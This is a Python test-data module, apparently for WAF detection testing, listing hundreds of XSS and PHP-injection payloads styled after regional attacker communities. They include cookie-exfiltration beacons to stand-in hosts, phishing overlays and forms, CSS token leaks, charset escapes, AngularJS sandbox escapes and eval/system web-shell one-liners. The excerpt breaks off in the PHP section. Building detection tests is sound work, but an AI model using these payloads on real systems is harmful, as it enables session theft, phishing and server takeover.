"""Blind set "hundredeightieth": cross-site scripting and PHP injection the way attacker communities around the
world write and share them, with benign requests in the same languages, scripts and syntax.

The angle: forum and tool habits of Chinese, Russian, Brazilian, Indonesian, Turkish, Iranian and Vietnamese
attackers (and the Japanese charset researchers everyone copies), recalled from memory. Payloads carry the
community's own markers: alert boxes and deface banners in their language, variable names in their script (PHP
and JavaScript both accept them), comments in their language, the XSS-platform and web-shell one-liners each
scene passes around (China Chopper, AntSword, Behinder, Godzilla, WSO, r57, b374k, IndoXploit), charset tricks
(GBK, Big5 and Shift_JIS wide bytes in front of an addslashes() backslash, UTF-7, overlong UTF-8, IIS %u, the
Windows best-fit soft hyphen of PHP-CGI), and the products each region runs (ThinkPHP, Discuz!, DedeCMS, ECShop,
Typecho, 1C-Bitrix, vBulletin, Joomla, Laravel with Vue or Alpine, the BT panel's .user.ini). Each payload
still works against the target its comment names (browser, template engine, PHP interpreter or product).

Families (category xss, then php; one sub-family per detection title):
  xss: libinjection-xss, script-tag, event-handler, attribute-vector (src/href/style/formaction),
    javascript-uri, html-injection (iframe/object/embed/base/meta/link/form), svg-mathml, css-expression,
    template-literal-dom-sink, ie-filter-vectors, encoded-entity-vectors, angular-vue-client-templates
  php: php-open-tag, php-function-call, php-variable-functions, php-wrappers, php-object-injection,
    php-config-directives, superglobals, php-file-upload, php-high-risk-function-names

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /forum.php, /plus/search.php, /bitrix/admin/index.php, /search,
/wp-admin/admin-ajax.php) under arbitrary parameter names (foo, wd, keyword, s, x, id), as a query string, form
body, JSON body, XML body, a raw form-typed body, or in User-Agent, Referer, a custom header or a cookie. Payloads
in a non-ASCII script or with control characters never go into headers, cookies or the path; wide-byte, overlong
and no-letters payloads go as the raw bytes the target decodes (percent-encoded once). Product exploits that
only work in one place keep it: upload names as multipart file names, PHP-CGI argument injection and ThinkPHP or
vBulletin parameter sets as raw query or form pairs (already percent-encoded where the exploit encodes).

Authorship and independence: written for this repository from general knowledge of each attack family, the
habits of these communities as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put
from .records import print_records

NAME = "hundredeightieth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]

# payloads held as latin-1 text: each character is one byte the target receives (wide bytes, overlong UTF-8,
# bitwise-NOT and XOR strings), percent-encoded once on the wire
LATIN: set[str] = set()
# fixed entries written as the exploit's own already-encoded `name=value` pairs or path, sent as they are
RAW: set[str] = set()


def latin(payload: str) -> str:
    LATIN.add(payload)
    return payload


def raw(payload: str) -> str:
    RAW.add(payload)
    return payload


def _increment_shell() -> str:
    """The letters-free PHP shell built only from ++ on 'A' (from "Array"): ASSERT($_POST[_])."""
    def letter(ch: str, acc: str) -> str:
        return "$__=$_;" + "$__++;" * (ord(ch) - ord("A")) + acc + ".=$__;"
    code = "$_=[];$_=@\"$_\";$_=$_['!'=='@'];$___=$_;"
    code += "".join(letter(ch, "$___") for ch in "SSERT") + "$____='_';"
    code += "".join(letter(ch, "$____") for ch in "POST")
    return code + "$_=$$____;$___($_[_]);"


# ================================================================================================================
# XSS (target: the victim's browser unless a comment says otherwise)
# ================================================================================================================

# libinjection-xss: the short break-out-and-run strings each scene pastes into every search box first
LIBINJECTION: list[Entry] = [
    # Chinese forum habit (the alert says "test"), any modern browser, attribute and text contexts
    "\"><script>alert('测试')</script>",
    "'><img src=x onerror=alert(/xss/)>",
    "\"><svg/onload=alert(document.domain)>",
    "</title><script>alert('黑客攻击')</script>",
    # Russian forum habit (Antichat style "взлом" = break-in), textarea and attribute breakouts, any browser
    "</textarea><script>alert(\"Взлом\")</script>",
    "'\"><svg onload=confirm('Хакер')>",
    # Turkish deface-team signature in the alert box, Chrome/Firefox
    "<img src=x onerror=alert('Tested by Turk Hack Team')>",
    "<marquee onstart=alert('Türk')>",
    # Iranian defacer habit, body handler with the group name, any browser
    "<body onload=alert('Hacked By Iranian Cyber Army')>",
    "\"><iframe src=javascript:alert('ایران')>",
    # Indonesian forum habit (all caps team name), any browser
    "'\"><script>alert('INDONESIAN HACKER')</script>",
    "<input autofocus onfocus=alert('Kena XSS')>",
    # Vietnamese forum habit, HTML5 elements with auto-firing handlers, Chrome
    "<details open ontoggle=alert('bảo mật')>",
    "<video><source onerror=\"alert('Việt Nam')\">",
    # Brazilian forum habit, media elements, any browser
    "<audio src=x onerror=alert('Hacked by Anonymous Brasil')>",
    "\"/><img src=x onerror=alert(document.cookie)>//",
    # charcode alert shared on every scene since the 2000s, any browser
    "</script><script>alert(String.fromCharCode(88,83,83))</script>",
    # the 0xsobky polyglot every community reposts: one string for JS, attribute, style, title, textarea, script
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
    "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    # anchor bait with a Vietnamese label, any browser
    "<a href=javascript:alert('vn')>bấm vào đây</a>",
    # scanner probe string (cracked Acunetix copies are shared on Chinese and Iranian forums), any browser
    "'\"()&%<acx><ScRiPt >prompt(915149)</ScRiPt>",
]

# script-tag: <script> blocks, cookie sniffers and remote loaders
SCRIPT_TAG: list[Entry] = [
    # Chinese "XSS platform" generated loader (mixed case to dodge naive filters), any browser
    "</tExtArEa>'\"><sCRiPt sRC=//xsspt.example/Q7xA></sCrIpT>",
    # Chinese drive-by trojan hosting ("挂马"): remote script on a compromised page
    "<script src=http://gm.example.cn/mm.js></script>",
    # Russian cookie sniffer ("сниффер") through an Image beacon, any browser
    "<script>new Image().src=\"http://sniff.example.ru/s.php?c=\"+document.cookie</script>",
    "<script>document.location='http://sniff.example.ru/?'+document.cookie</script>",
    # Brazilian bank-phishing redirect, any browser
    "<script>window.location.href=\"https://itau-seguro.example.com.br/login\"</script>",
    # Iranian deface group's favourite: an alert in the group name (Ashiyane), any browser
    "<script>alert('Hacked By Ashiyane Digital Security Team')</script>",
    # JavaScript identifiers in the attacker's script (Chinese, Persian, Russian): valid ID_Start letters
    "<script>var 变量='被黑了';alert(变量)</script>",
    "<script>var پیام=\"هک شد\";alert(پیام)</script>",
    "<script>const сообщение='взломано';alert(сообщение)</script>",
    # comment in the author's language inside the payload (Vietnamese, Turkish), any browser
    "<script>/*Xâm nhập*/prompt(document.domain)</script>",
    "<script>// Türk Hack Team\nalert(document.domain)</script>",
    # Indonesian cookie exfiltration with fetch, modern browsers
    "<script>fetch('//log.example.id/c?d='+btoa(document.cookie))</script>",
    # Turkish forums: jQuery is always on the page, load the rest from a paste host
    "<script>$.getScript('//x.example.com.tr/k.js')</script>",
    # Vietnamese deface page written into the DOM, any browser
    "<script>document.write('<h1>Hacked By Vietnamese Hacker Team</h1>')</script>",
    # Indonesian deface with marquee banner, any browser
    "<script>document.body.innerHTML='<marquee><h1>Hacked by Indonesian Cyber Army</h1></marquee>'</script>",
    # single-pass strip filter beaten by nesting (Chinese CTF habit), any browser
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    # base64 body decoded in the page: alert(document.cookie), any browser
    "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))</script>",
    # escaped CJK in the string literal (the page shows 测试), any browser
    r"<script>alert('\u6d4b\u8bd5')</script>",
    # data: URL script source with a Vietnamese greeting, Chrome/Firefox
    "<script src=\"data:text/javascript,alert('xin chào')\"></script>",
    # string concatenation to hide the sink name (Russian filter-evasion habit), any browser
    "<script>top['al'+'ert'](document.domain)</script>",
]

# event-handler: handlers on elements that fire by themselves or on the first mouse move
EVENT_HANDLER: list[Entry] = [
    # Chinese broken-image alert ("image failed to load"), any browser
    "<img src=x onerror=\"alert('图片加载失败')\">",
    # Turkish login-box focus ("Giriş"), any browser
    "<input onfocus=alert('Giriş') autofocus>",
    # Persian textarea focus ("ورود" = login), any browser
    "<textarea autofocus onfocus=alert('ورود')>",
    # Russian mouse-over bait with Russian text, any browser
    "<div onmouseover=\"alert('Наведи')\">наведи мышку сюда</div>",
    # Brazilian custom tag with pointer event ("passe o mouse aqui"), Chrome
    "<xss onpointerenter=alert(1)>passe o mouse aqui</xss>",
    # Vietnamese video error handler, any browser
    "<video src=1 onerror=alert('Việt Nam vô địch')>",
    # Indonesian iframe load handler, any browser
    "<iframe onload=alert('Halo Indonesia')>",
    # page-level handlers that need no interaction, any browser
    "<body onpageshow=alert(document.domain)>",
    "<body onresize=alert(1)>",
    "<body onhashchange=alert(1)><a href=#x>klik</a>",
    # SVG animation begin handler, Chrome/Firefox
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    # focusable elements with autofocus (Chinese CTF XSS-challenge answers)
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>lose focus!",
    # style element load handler, Chrome
    "<style onload=alert(document.cookie)></style>",
    # object error handler, any browser
    "<object data=x onerror=alert(1)>",
    # marquee finish handler, Firefox/IE
    "<marquee loop=1 width=0 onfinish=alert(1)>",
    # computed sink name in the handler (Russian habit), any browser
    "<img src=x onerror=window['al'+'ert'](1)>",
    # cookie theft from a handler to a Chinese XSS platform, any browser
    "<img src=x onerror=\"(new Image).src='//xss.example.cn/?c='+escape(document.cookie)\">",
    # details toggle handler, Chrome/Firefox
    "<details ontoggle=confirm('Türkiye') open>",
]

# attribute-vector: script through src/href/style/formaction attributes, or breaking out of one
ATTRIBUTE: list[Entry] = [
    # Turkish form with a formaction button ("Gönder" = send), Chrome/Firefox
    "<form><button formaction=javascript:alert('Gönder')>Gönder</button></form>",
    # Indonesian submit with formaction ("Kirim" = send), any browser
    "<input type=submit formaction=javascript:alert(document.cookie) value=Kirim>",
    "<button form=f formaction=javascript:alert(1)>Simpan</button>",
    # attribute-context breakouts without angle brackets (Chinese CTF habit), any browser
    "\" autofocus onfocus=\"alert(document.domain)",
    "' onmouseover='alert(/中国菜刀/)' x='",
    "\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\" onmouseover=\"alert(1)",
    # iframe with a base64 HTML document (<script>alert(1)</script>), Firefox/old Chrome
    "<iframe src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></iframe>",
    # data: URL HTML with a Chinese alert, Firefox
    "<iframe src=\"data:text/html,<script>alert('数据')</script>\"></iframe>",
    # embed and object with a javascript: source, old Firefox/IE
    "<embed src=\"javascript:alert(1)\">",
    "<object data=\"javascript:alert('Объект')\">",
    # IE6-era src vectors still copied from old Chinese tutorials, IE6
    "<img src=\"javascript:alert('XSS')\">",
    "<img dynsrc=\"javascript:alert('XSS')\">",
    "<img lowsrc=\"javascript:alert('XSS')\">",
    "<bgsound src=\"javascript:alert('XSS');\">",
    "<table background=\"javascript:alert(1)\">",
    # style attribute URL, IE6
    "<div style=\"background-image:url(javascript:alert('ie6'))\">",
    # link import of an HTML document with script, old Chrome
    "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">",
    # leading spaces and entity colon in href (Brazilian forum habit), any browser
    "<a href=\"  javascript:alert('clique aqui')\">clique aqui</a>",
    "<a href=\"javascript&colon;alert(1)\">tıkla</a>",
    # isindex action, old Firefox/IE
    "<isindex action=javascript:alert(1) type=submit>",
]

# javascript-uri: the pseudo-protocol dropped into link, redirect and avatar-URL fields
JS_URI: list[Entry] = [
    # Russian greeting in the alert, any browser (href or location sink)
    "javascript:alert('Привет')",
    "javascript:alert(document.cookie)//",
    # mixed case scheme (Chinese filter-evasion habit)
    "JaVaScRiPt:alert(1)",
    # tab and entity-tab inside the scheme name, any browser
    "java\tscript:alert(1)",
    "java&#x09;script:alert(1)",
    # line comment closed by an encoded newline, any browser
    "javascript://%0Aalert(document.domain)",
    # concatenated eval (Russian habit)
    "javascript:eval('al'+'ert(1)')",
    # Iranian deface through a link
    "javascript:void(document.body.innerHTML='<h1>Hacked By Iran Hack Security Team</h1>')",
    # Vietnamese cookie exfiltration
    "javascript:fetch('//x.example.vn/?c='+document.cookie)",
    # Brazilian phishing redirect carrying the cookie
    "javascript:window.location='https://phish.example.com.br/'+document.cookie",
    # IE-only VBScript scheme (old Chinese tutorials), IE
    "vbscript:msgbox(\"XSS\")",
    "javascript:alert(String.fromCharCode(88,83,83))",
    # Turkish fake password prompt ("Şifrenizi girin" = enter your password)
    "javascript:prompt('Şifrenizi girin')",
    # escaped Arabic-script greeting (مرحبا), any browser
    r"javascript:alert('\u0645\u0631\u062d\u0628\u0627')",
    "javascript:confirm(document.domain)",
    # Iranian redirect of the top window
    "javascript:top.location='//x.example.ir/'",
    # CSRF from a javascript: link using the page's jQuery (Indonesian admin takeover)
    "javascript:$.post('/admin/users',{role:'admin',email:'x@example.id'})",
    # data: HTML document for a link target, Firefox
    "data:text/html,<script>alert('Xin chào')</script>",
    # leading whitespace control and entity-encoded colon, any browser
    " javascript&colon;alert(1)",
    # comment-hidden sink through newline (Chinese CTF URL filters that check the first line only)
    "javascript:/*\n*/alert(1)",
]

# html-injection: injected iframe/object/embed/base/meta/link/form markup (phishing, drive-by, deface)
HTML_INJECTION: list[Entry] = [
    # Brazilian bank-phishing overlay in a full-page iframe
    "<iframe src=\"https://itau.example.com.br/atualizar\" width=100% height=100% frameborder=0></iframe>",
    # Chinese drive-by trojan iframe ("挂马"), zero-size
    "<iframe src=http://mm.example.cn/mm.htm width=0 height=0></iframe>",
    "<iframe src=\"//x.example.vn\" style=\"display:none\"></iframe>",
    # Russian meta refresh to a traffic-redirect host
    "<meta http-equiv=\"refresh\" content=\"0;url=https://tds.example.ru/go\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    # base tag hijacking every relative script (Chinese CTF), any browser
    "<base href=\"https://x.example.cn/\">",
    "<base target=_blank href=//x.example.ru/>",
    # Indonesian credential-phishing form ("Kata sandi" = password, "Masuk" = log in)
    "<form action=\"https://login.example.co.id/steal.php\" method=post><input name=password "
    "placeholder=\"Kata sandi\"><input type=submit value=Masuk></form>",
    # Turkish Flash embeds (old defacement kits)
    "<object data=\"https://x.example.com.tr/evil.swf\" type=\"application/x-shockwave-flash\"></object>",
    "<embed src=\"https://x.example.ru/xss.swf\" allowscriptaccess=always>",
    # Iranian stylesheet injection
    "<link rel=stylesheet href=\"https://x.example.ir/evil.css\">",
    # srcdoc documents, Chrome/Firefox
    "<iframe srcdoc=\"<script>alert(parent.document.cookie)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    # Turkish deface markup with the flag image, no script needed
    "<h1>Hacked By Turkish Hackers</h1><img src=https://x.example.com.tr/bayrak.jpg>",
    # Vietnamese deface banner
    "<marquee><font color=red size=7>Hacked By Vietnamese Hacker Team</font></marquee>",
    # form with a javascript: action, any browser
    "<form action=javascript:alert(1)><input type=submit value=Gửi></form>",
    # IE scriptlet object, IE
    "<object type=\"text/x-scriptlet\" data=\"https://x.example.cn/a.sct\"></object>",
    # Java applet from a Russian host, old JRE plugin
    "<applet code=\"Evil.class\" codebase=\"https://x.example.ru/\"></applet>",
    # frameset with a javascript: frame, old browsers
    "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
    # Indonesian session-expired overlay over the real page ("Sesi Anda berakhir" = your session ended)
    "<div style=\"position:absolute;top:0;left:0;width:100%;height:100%;background:#fff\"><h2>Sesi Anda "
    "berakhir</h2><form action=//x.example.id/l.php><input name=u><input name=p type=password></form></div>",
]

# svg-mathml: SVG and MathML namespaces, stored SVG avatars and mutation XSS
SVG_MATHML: list[Entry] = [
    # Chinese alert on the shortest SVG vector, any browser
    "<svg/onload=alert('中文')>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    # animate href to a javascript: URL (Vietnamese label "Nhấn vào đây" = click here), Chrome/Firefox
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Nhấn vào đây</text></a>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>"
    "click</text></a></svg>",
    # foreignObject with a srcdoc frame, Chrome/Firefox
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
    # MathML links, Firefox
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
    "<math href=\"javascript:alert(1)\">CLICKME</math>",
    # use element pulling an SVG with an image error handler, old Chrome
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' "
    "onerror='alert(1)' /></svg>#x\" />",
    "<svg><image href=x onerror=alert(document.domain)>",
    # DOMPurify 2.0.0 mutation bypass through MathML and nested forms, Chrome
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # stored XSS through an SVG avatar upload, any browser that opens the file
    "<?xml version=\"1.0\" standalone=\"no\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script "
    "type=\"text/javascript\">alert(document.domain)</script></svg>",
    # Turkish text in a namespaced onload, any browser
    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert('Türkçe')\"/>",
    # split javascript: string in location (Russian habit)
    "<svg/onload=location='javas'+'cript:al'+'ert(1)'>",
    # discard element begin handler, Chrome
    "<svg><discard onbegin=alert(1)>",
    # SVG image from a base64 data URL in an embed, Firefox
    "<embed src=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0naHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmcnIG9ubG9hZD0n"
    "YWxlcnQoZG9jdW1lbnQuZG9tYWluKScvPg==\">",
    # SVG set to an event attribute, Chrome
    "<svg><set attributeName=onmouseover to=alert(1) /><rect width=100 height=100 /></svg>",
    # MathML anchor with a Persian label, Firefox
    "<math><a xlink:href=\"javascript:alert(1)\">کلیک کنید</a></math>",
    # SVG title breakout into HTML (Chinese CTF), any browser
    "<svg><title></title></svg><img src=x onerror=alert('标题')>",
    # SVG inside a textarea breakout, any browser
    "</textarea><svg onload=alert(document.cookie)>",
]

# css-expression: script through CSS (IE expressions, behaviors, XBL, javascript: URLs, CSS exfiltration)
CSS_EXPRESSION: list[Entry] = [
    # IE5-7 expression(), the 2000s Chinese forum classic
    "<div style=\"width:expression(alert('XSS'))\">",
    "<div style=\"xss:expression(alert(document.cookie))\">",
    "<img style=\"xss:expression(alert(/xss/))\">",
    # run-once expression (Chinese worm style), IE6
    "<div style=\"x:expression((window.r==1)?'':eval('r=1;alert(1)'))\">",
    # comment and escape splits of "expression", IE
    "<style>*{x:expr/**/ession(alert(1))}</style>",
    "<div style=\"xss:ex\\pression(alert(1))\">",
    "<p style=\"width:e\\78pression(alert(1))\">",
    "<div style=\"w\\idth:expression(alert(1))\">",
    # full-width letters IE7 folded to ASCII (Japanese researchers' trick), IE7
    "<div style=\"width:ｅｘｐｒｅｓｓｉｏｎ(alert(1))\">",
    # javascript: URLs in CSS, IE6
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    "<style>li{list-style-image:url(\"javascript:alert('XSS')\")}</style><ul><li>XSS</li></ul>",
    "<style>@import'javascript:alert(1)';</style>",
    "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>",
    # CSS hex-escaped url('javascript:alert(1)'), IE6
    "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069"
    "\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028\\0031\\0029'\\0029\">",
    # IE behaviors (HTC), IE
    "<div style=\"behavior:url(//x.example.cn/xss.htc)\">",
    "<x style=\"behavior:url(#default#time2)\" onbegin=\"alert(1)\">",
    # Firefox XBL binding (old Russian favourite), Firefox <= 3
    "<div style=\"-moz-binding:url(http://x.example.ru/xss.xml#xss)\">",
    # style-value injection closing into an expression, IE
    "red;background:expression(alert(document.cookie))",
    # CSS attribute-selector exfiltration of a CSRF token (no script), any browser
    "<style>input[name=csrf_token][value^=a]{background:url(//x.example.cn/leak?a)}</style>",
    # remote stylesheet import from an Iranian host, any browser
    "<style>@import url(//x.example.ir/steal.css);</style>",
]

# template-literal-dom-sink: JavaScript-string, template-literal and DOM-sink contexts
DOM_SINK: list[Entry] = [
    # template literal interpolation, any modern browser
    "${alert(document.domain)}",
    "${fetch('//x.example.vn/?c='+document.cookie)}",
    # tagged template call without parentheses, modern browsers
    "<img src=x onerror=alert`1`>",
    r"<svg onload=setTimeout`alert\u0028document.domain\u0029`>",
    # JavaScript string breakouts (Chinese CTF answers), any browser
    "';alert(String.fromCharCode(88,83,83))//",
    "\"-alert(1)-\"",
    "'-alert(document.domain)-'",
    "\\';alert(1);//",
    "'+alert(1)+'",
    "'};alert(1);{'",
    # Turkish marker in a double-quoted string breakout
    "\");alert('Türk');//",
    # script-block breakouts with a Chinese marker ("注入" = injection)
    "</script><script>alert('注入')</script>",
    "</script><svg onload=alert(1)>",
    # location.hash into an HTML sink (jQuery $(location.hash), innerHTML), any browser
    "#<img src=x onerror=alert(1)>",
    "#\"><img src=x onerror=alert(document.cookie)>",
    # document.write sink carrying the cookie (Chinese XSS platform beacon)
    "\";document.write('<img src=//x.example.cn/?'+document.cookie+'>');//",
    # Russian cookie redirect from a string context
    "';location.href='//x.example.ru/?'+document.cookie;//",
    # eval(window.name) stager (Brazilian phishing kits set window.name first)
    "';eval(name)//",
    # JSONP callback sink, any browser
    "alert(document.domain)//",
    # constructor chain in a string context (no 'eval' word)
    "'-[].constructor.constructor('alert(1)')()-'",
]

# ie-filter-vectors: Internet Explorer and old-filter evasions (UTF-7, data islands, conditional comments)
IE_FILTER: list[Entry] = [
    # UTF-7 when the page declares or sniffs UTF-7, IE6-8 (Japanese researchers' classic)
    "+ADw-script+AD4-alert('UTF-7')+ADw-/script+AD4-",
    "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
    "+ACIAPgA8-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
    # XML data island with split CDATA, IE
    "<xml id=i><x><c><![CDATA[<img src=\"javas]]><![CDATA[cript:alert('XSS');\">]]></c></x></xml>"
    "<span datasrc=#i datafld=c dataformatas=html></span>",
    # HTML+TIME set element, IE
    "<?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
    "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<script defer>alert(1)</script>\">",
    # script for/event attributes, IE
    "<script for=document event=onreadystatechange>alert(1)</script>",
    # comment element mutation, IE
    "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">",
    # conditional comment, IE5-9
    "<!--[if gte IE 4]><script>alert('XSS');</script><![endif]-->",
    # backtick-quoted attribute, IE
    "<img src=`x`onerror=alert(1)>",
    # expression with escaped e, IE
    "<a href=\"#\" style=\"x:\\65xpression(alert(1))\">x</a>",
    # namespaced script element, IE9 XHTML
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    # unclosed tags the old parsers completed (RSnake-era list every forum copied)
    "<img src=xx:x onerror=alert(1)//",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<SCRIPT/XSS SRC=\"http://x.example.ru/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//<</SCRIPT>",
    # NUL byte inside the tag name, which IE6 ignored
    latin("<scr\x00ipt>alert(1)</scr\x00ipt>"),
    # IE8 filter evasion with entity-encoded tab in the scheme
    "<a href=\"jav&#x09;ascript:alert(1)\">IE8</a>",
    # unicode-escaped sink name in a handler, IE9+
    "<img src=\"x:gif\" onerror=\"window['al\\u0065rt'](0)\"></img>",
]

# encoded-entity-vectors: double/entity/escape encodings and charset tricks the target decodes
ENCODED: list[Entry] = [
    # double URL-encoding: the application urldecode()s once more (Chinese PHP apps), any browser
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%253Cscript%253Ealert(1)%253C%252Fscript%253E",
    # HTML entities the application html_entity_decode()s before output (forum BBCode converters)
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(document.cookie)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    # entity-encoded javascript: href, any browser
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;&#x61;&#x6C;&#x65;&#x72;&#x74;"
    "&#x28;&#x31;&#x29;\">x</a>",
    "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116"
    "&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">x</a>",
    # handler with entity-encoded alert('测试') (CJK entities), any browser
    "<img src=x onerror=\"&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;&#x27;&#x6D4B;&#x8BD5;&#x27;&#x29;\">",
    "<svg onload=&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;>",
    # HTML5 named entities, modern browsers
    "<a href=\"javascript&colon;alert&lpar;1&rpar;\">x</a>",
    "<a href=\"jav&NewLine;ascript&colon;alert(1)\">x</a>",
    # JavaScript escapes into an innerHTML sink (JSON APIs), any browser
    r"\x3cimg src=x onerror=alert(1)\x3e",
    r"\u003cscript\u003ealert(document.domain)\u003c/script\u003e",
    r"<img src=x onerror=\u0061lert(1)>",
    # charcode-built alert('测试'), any browser
    "<script>alert(String.fromCharCode(27979,35797))</script>",
    # base64 data URL of <script>alert('测试')</script>, Firefox
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgn5rWL6K+VJyk8L3NjcmlwdD4=",
    # IIS %u encoding (Chinese ASP/IIS habit), sent as IIS decodes it
    (raw("q=%u003Cscript%u003Ealert(1)%u003C/script%u003E"), "query", "rs-query"),
    # overlong UTF-8 for '<' and '>' that lenient decoders fold (IIS 5, old PHP utf8_decode), as raw bytes
    latin("\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbe"),
    latin("\xe0\x80\xbcimg src=x onerror=alert(1)\xe0\x80\xbe"),
    # GBK wide byte swallows addslashes()' backslash in a JS string (Discuz! GBK editions)
    latin("\xc0';alert(document.cookie);//"),
    latin("\xbf';alert(1);//"),
    # Big5 lead byte with backslash trail (0xA5 0x5C is one character), Big5 pages
    latin("\xa5\";alert(1);//"),
    # Shift_JIS lead byte with backslash trail (0x83 0x5C), Shift_JIS pages
    latin("\x83';alert(document.domain);//"),
]

# angular-vue-client-templates: client-side template expressions (AngularJS, Vue, Alpine)
CLIENT_TEMPLATE: list[Entry] = [
    # AngularJS >= 1.6 (no sandbox), pages with ng-app
    "{{constructor.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(document.domain)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$new.constructor('alert(\"Привет\")')()}}",
    # AngularJS 1.2-1.5 sandbox escape (charAt swapped for join)
    "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}",
    "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=alert(1)');}}",
    # AngularJS 1.0.x sandbox escape
    "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
    "[\"a\",\"alert(1)\"].sort(toString.constructor)}}",
    # AngularJS CSP mode: orderBy pipe into Array.from, pages with ng-csp
    "<div ng-app ng-csp><input autofocus ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'></div>",
    "<input autofocus ng-focus=\"$event.view.alert('Türkçe')\">",
    "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\"></div>",
    # Vue 2 and Vue 3 templates compiled from user input
    "{{_c.constructor('alert(1)')()}}",
    "{{_openBlock.constructor('alert(1)')()}}",
    "{{$el.ownerDocument.defaultView.alert('测试')}}",
    "{{$emit.constructor`alert(document.domain)`()}}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<div v-bind:class=\"constructor.constructor('alert(1)')()\"></div>",
    # Vue with [[ ]] delimiters (Chinese Flask+Vue projects change them to dodge Jinja)
    "[[constructor.constructor('alert(1)')()]]",
    # Alpine.js on Laravel TALL-stack sites (popular in Indonesia)
    "<div x-data x-init=\"alert('Halo dari Alpine')\"></div>",
    "<div x-data=\"{}\" x-html=\"'<img src=x onerror=alert(document.cookie)>'\"></div>",
    # Knockout.js data-bind html sink (older Russian admin panels)
    "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>",
]

# ================================================================================================================
# PHP (target: the PHP interpreter behind the named product or sink)
# ================================================================================================================

# php-open-tag: whole files or fragments that open PHP code, the one-liners ("一句话") each scene writes
OPEN_TAG: list[Entry] = [
    # China Chopper / AntSword one-liner, the default pass names, PHP 5-8
    "<?php @eval($_POST['pass']);?>",
    "<?php @eval($_POST['chopper']);?>",
    "<?=@eval($_REQUEST[1]);?>",
    # comment in Chinese ("一句话木马" = one-line trojan), assert() as eval, PHP 5-7.1
    "<?php /* 一句话木马 */ @assert($_POST['x']); ?>",
    # Turkish short-tag shell ("komut" = command), short_open_tag=On
    "<? system($_GET['komut']); ?>",
    # Indonesian shell ("perintah" = command), PHP 5-8
    "<?php echo shell_exec($_GET['perintah']); ?>",
